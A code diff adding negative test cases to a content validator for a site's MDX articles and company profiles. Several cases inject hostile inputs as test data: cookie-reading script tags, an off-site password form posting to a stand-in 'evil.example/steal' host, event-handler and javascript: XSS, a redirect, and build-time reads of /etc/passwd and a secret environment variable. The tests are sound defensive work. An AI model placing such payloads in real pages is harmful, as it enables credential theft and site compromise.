@@ -29,6 +29,8 @@ const write = (root: string, rel: string, text: string | Buffer) => writeFileSyn
 
 const ROUND = 'funding/acme-ai-seed-2024.yaml';
 const RATES = 'data/ecb-rates.yaml';
+const STORY = 'articles/en/acme-story.mdx';
+const PROFILE = 'companies/acme-ai.mdx';
 
 export const BAD_INPUT: readonly BadInput[] = [
   {
@@ -134,6 +136,79 @@ export const BAD_INPUT: readonly BadInput[] = [
     name: 'a privacy policy cited as a source',
     apply: (r) => edit(r, ROUND, (t) => t.replace('https://example.org/news/acme-raises', 'https://acme.example.org/privacy-policy')),
     file: `content/${ROUND}`, field: 'sources[0].url', message: /cites a privacy policy/,
+  },
+  {
+    name: 'a raw <script> in an article',
+    apply: (r) => edit(r, STORY, (t) => `${t}\n<script>alert(document.cookie)</script>\n`),
+    file: `content/${STORY}`, field: '(body)', message: /<script> is not allowed in a body/,
+  },
+  {
+    name: 'an <iframe> in a profile',
+    apply: (r) => edit(r, PROFILE, (t) => `${t}\n<iframe src="https://evil.example/"></iframe>\n`),
+    file: `content/${PROFILE}`, field: '(body)', message: /<iframe> is not allowed/,
+  },
+  {
+    name: 'a password form posting off-site',
+    apply: (r) => edit(r, PROFILE, (t) => `${t}\n<form action="https://evil.example/steal" method="post"><input type="password" name="p" /></form>\n`),
+    file: `content/${PROFILE}`, field: '(body)', message: /<form> is not allowed/,
+  },
+  {
+    name: 'a <meta http-equiv="refresh"> that navigates away',
+    apply: (r) => edit(r, STORY, (t) => `${t}\n<meta http-equiv="refresh" content="0;url=https://evil.example/" />\n`),
+    file: `content/${STORY}`, field: '(body)', message: /<meta> is not allowed/,
+  },
+  {
+    name: 'an event handler on an allowed element',
+    apply: (r) => edit(r, STORY, (t) => `${t}\nSee <abbr title="x" onmouseover="alert(1)">GPAI</abbr>.\n`),
+    file: `content/${STORY}`, field: '(body)', message: /may not carry the attribute onmouseover \(event handlers run code\)/,
+  },
+  {
+    name: 'an <img onerror> in JSX syntax',
+    apply: (r) => edit(r, STORY, (t) => `${t}\n<img src="x" onerror={() => alert(1)} />\n`),
+    file: `content/${STORY}`, field: '(body)', message: /<img> is not allowed/,
+  },
+  {
+    name: 'a javascript: link in Markdown',
+    apply: (r) => edit(r, STORY, (t) => `${t}\n[click](javascript:alert(1))\n`),
+    file: `content/${STORY}`, field: '(body)', message: /only https:\/\/, http:\/\/, mailto: and the site's own pages/,
+  },
+  {
+    name: 'a data: URL in an image',
+    apply: (r) => edit(r, STORY, (t) => `${t}\n![x](data:image/svg+xml;base64,PHN2Zz4=)\n`),
+    file: `content/${STORY}`, field: '(body)', message: /links to "data:image/,
+  },
+  {
+    name: 'an import that reads files at build time',
+    apply: (r) => edit(r, STORY, (t) => t.replace('Acme AI raised money.', "import { readFileSync } from 'node:fs'\n\n{readFileSync('/etc/passwd', 'utf8')}\n\nAcme AI raised money.")),
+    file: `content/${STORY}`, field: '(body)', message: /import and export are not allowed/,
+  },
+  {
+    name: 'an expression that prints an environment variable',
+    apply: (r) => edit(r, STORY, (t) => `${t}\nThe key is {process.env.SECRET_TOKEN}.\n`),
+    file: `content/${STORY}`, field: '(body)', message: /\{process\.env\.SECRET_TOKEN\} is code/,
+  },
+  {
+    name: 'a body link to a record that does not exist',
+    apply: (r) => edit(r, STORY, (t) => `${t}\nSee [the company](/companies/does-not-exist/).\n`),
+    file: `content/${STORY}`, field: '(body)', message: /\/companies\/does-not-exist\/, which is not a published page/,
+  },
+  {
+    name: 'a profile linking to an article that is now a draft',
+    apply: (r) => {
+      for (const lang of ['en', 'es']) edit(r, `articles/${lang}/acme-story.mdx`, (t) => t.replace(/^published: /m, 'draft: true\npublished: '));
+      edit(r, PROFILE, (t) => `${t}\nRead [the Acme story](/articles/acme-story/).\n`);
+    },
+    file: `content/${PROFILE}`, field: '(body)', message: /\/articles\/acme-story\/, which is not a published page: .* or it is a draft/,
+  },
+  {
+    name: 'a Spanish text linking to an English page',
+    apply: (r) => edit(r, 'companies/acme-ai.es.mdx', (t) => `${t}\nVéase [el modelo](/models/acme-1/).\n`),
+    file: 'content/companies/acme-ai.es.mdx', field: '(body)', message: /link to the es page, \/es\/models\/acme-1\//,
+  },
+  {
+    name: 'a body that is not valid MDX',
+    apply: (r) => edit(r, STORY, (t) => `${t}\nRevenue grew <50% in {2024.\n`),
+    file: `content/${STORY}`, field: '(body)', message: /cannot be read as MDX/,
   },
 ];
 
